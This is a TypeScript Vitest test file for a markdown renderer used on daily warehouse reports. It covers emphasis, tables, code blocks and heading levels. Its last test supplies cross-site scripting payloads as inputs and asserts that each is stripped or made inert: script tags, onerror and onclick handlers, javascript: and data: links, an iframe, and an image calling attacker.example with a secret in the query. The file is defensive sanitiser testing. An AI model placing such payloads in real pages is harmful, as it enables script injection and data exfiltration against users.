// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { renderMarkdown } from "./markdown";

/** The rendered HTML as a DOM fragment, to ask what the browser would show. */
function dom(source: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderMarkdown(source);
  return root;
}

describe("renderMarkdown", () => {
  it("leaves underscores inside words alone: snake_case names and file names", () => {
    const root = dom("See dispatch_jd_sop.pdf and warehouse_sop_v2.md; the picker_id column.");
    expect(root.textContent).toBe("See dispatch_jd_sop.pdf and warehouse_sop_v2.md; the picker_id column.");
    expect(root.querySelector("em, strong")).toBeNull();
  });

  it("keeps column names in the report's reasons, and its closing italic line", () => {
    const reason = "Not available (shipments.loading_started_at is empty): busy minutes";
    const root = dom(`${reason}\n\nmean_7d_picks and __init__\n\n_assembled from the figures._`);
    expect(root.querySelector("p")?.textContent).toBe(reason);
    expect([...root.querySelectorAll("strong")].map((e) => e.textContent)).toEqual(["init"]);
    expect(root.querySelector("em")?.textContent).toBe("assembled from the figures.");
  });

  it("still reads emphasis and strong where CommonMark says so", () => {
    const root = dom("Throughput was **1,204** lines, _up_ 4% and *late* 3; 2 * 3 = 6");
    expect(root.querySelector("strong")?.textContent).toBe("1,204");
    expect([...root.querySelectorAll("em")].map((e) => e.textContent)).toEqual(["up", "late"]);
    expect(root.textContent).toContain("2 * 3 = 6");
  });

  it("reads GFM tables with their alignment, inline markup in cells", () => {
    const root = dom(["| zone | lines | file |", "|---|---:|:-:|", "| A | 600 | `a_b.csv` |", "| B | 604 | x_y_z |"].join("\n"));
    const headers = [...root.querySelectorAll("thead th")].map((th) => th.textContent);
    expect(headers).toEqual(["zone", "lines", "file"]);
    const rows = [...root.querySelectorAll("tbody tr")].map((tr) => [...tr.children].map((td) => td.textContent));
    expect(rows).toEqual([
      ["A", "600", "a_b.csv"],
      ["B", "604", "x_y_z"],
    ]);
    expect(root.querySelector("tbody td:nth-child(2)")?.getAttribute("align")).toBe("right");
    expect(root.querySelector("tbody td code")?.textContent).toBe("a_b.csv");
  });

  it("keeps code verbatim, markup inside it as text", () => {
    const root = dom("```sql\nSELECT picker_id, *emphasis* FROM t WHERE a < 3; <b>x</b>\n```\n\nRun `phi-agent run --policy policy.yaml`.");
    expect(root.querySelector("pre code")?.textContent).toBe("SELECT picker_id, *emphasis* FROM t WHERE a < 3; <b>x</b>\n");
    expect(root.querySelector("pre b")).toBeNull();
    expect(root.querySelector("p code")?.textContent).toBe("phi-agent run --policy policy.yaml");
  });

  it("moves headings one level down and keeps lists, quotes and rules", () => {
    const root = dom("# Daily report — 2026-11-25\n\n## Zones\n\n- one\n- two\n\n1. first\n\n> note\n\n---");
    expect(root.querySelector("h2")?.textContent).toBe("Daily report — 2026-11-25");
    expect(root.querySelector("h3")?.textContent).toBe("Zones");
    expect(root.querySelector("h1")).toBeNull();
    expect(root.querySelectorAll("ul li")).toHaveLength(2);
    expect(root.querySelectorAll("ol li")).toHaveLength(1);
    expect(root.querySelector("blockquote")?.textContent?.trim()).toBe("note");
    expect(root.querySelector("hr")).not.toBeNull();
  });

  it("lets no script, handler, image or javascript: link through", () => {
    const html = renderMarkdown(
      [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(2)">',
        "[click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)",
        "![pixel](https://attacker.example/p.png?q=secret)",
        '<a href="https://example.com" onclick="alert(5)">raw</a>',
        "| a |\n|---|\n| <iframe src=//x></iframe> |",
        "[ok](https://example.com/report)",
      ].join("\n\n"),
    );
    const root = document.createElement("div");
    root.innerHTML = html;
    expect(root.querySelector("script, img, iframe, [onerror], [onclick]")).toBeNull();
    // The two dangerous links stay as inert text links (an empty href), the safe one works.
    const hrefs = [...root.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? "");
    expect(hrefs.filter((h) => h !== "")).toEqual(["https://example.com/report"]);
    expect(html).not.toMatch(/javascript:|data:text/i);
    expect(root.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    // Raw HTML in the source is shown as text, not dropped silently.
    expect(root.textContent).toContain("<script>alert(1)</script>");
  });
});
